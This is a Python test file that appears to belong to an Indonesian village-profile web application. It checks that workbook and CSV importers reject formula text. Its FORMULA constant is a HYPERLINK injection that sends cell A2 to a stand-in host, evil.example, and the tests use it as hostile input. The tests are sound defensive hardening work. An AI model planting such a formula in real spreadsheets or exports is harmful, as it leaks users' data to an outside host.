"""Formula text (the HYPERLINK leak of the outside test) is refused by the importers whose cells hold values:
a profile workbook cell with a formula, web and command line, and an IDM score. Nothing is written."""

from __future__ import annotations

import io

import openpyxl
import pytest
from openpyxl.utils import get_column_letter

from petakan.profiles import services
from petakan.regions.models import Area
from tests.conftest import KENDAL_VILLAGE
from tests.hardening.conftest import Entry, Feed, assert_refused, entries

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"klik")'


def village_template(field: str, value: str) -> bytes:
    """The village's own template with ``value`` typed into its row's ``field`` cell."""
    buffer = io.BytesIO()
    services.write_scope_template(Area.objects.get(code=KENDAL_VILLAGE), 2026, buffer, lang="id")
    wb = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    ws = wb["Profil"]
    column = next(get_column_letter(c.column) for c in ws[1] if c.value == field)
    ws[f"{column}5"] = value
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


@pytest.mark.parametrize("entry", [e for e in entries("xlsx") if e.name.startswith("profiles")], ids=str)
def test_a_formula_in_a_profile_workbook_is_refused(feed: Feed, entry: Entry) -> None:
    field = services.schema().fields[0].code
    outcome = feed(entry, "profil.xlsx", village_template(field, FORMULA), commit=True)
    assert_refused(outcome, "Rumus tidak diperbolehkan", "Formulas are not allowed")
    assert "HYPERLINK" in outcome.text  # the message quotes the formula, escaped on the page


@pytest.mark.parametrize("entry", [e for e in entries("csv") if e.name.startswith("idm scores")], ids=str)
def test_formula_text_as_an_idm_score_is_refused(feed: Feed, entry: Entry) -> None:
    header = ["code", "year"] + [f"iks_{i:02d}" for i in range(1, 36)]
    header += [f"ike_{i:02d}" for i in range(1, 13)] + [f"ikl_{i:02d}" for i in range(1, 4)]
    row = [KENDAL_VILLAGE, "2024", '"' + FORMULA.replace('"', '""') + '"'] + ["3"] * (len(header) - 3)
    content = (",".join(header) + "\n" + ",".join(row) + "\n").encode()
    assert_refused(feed(entry, "skor.csv", content, commit=True), "bukan skor", "not a score")
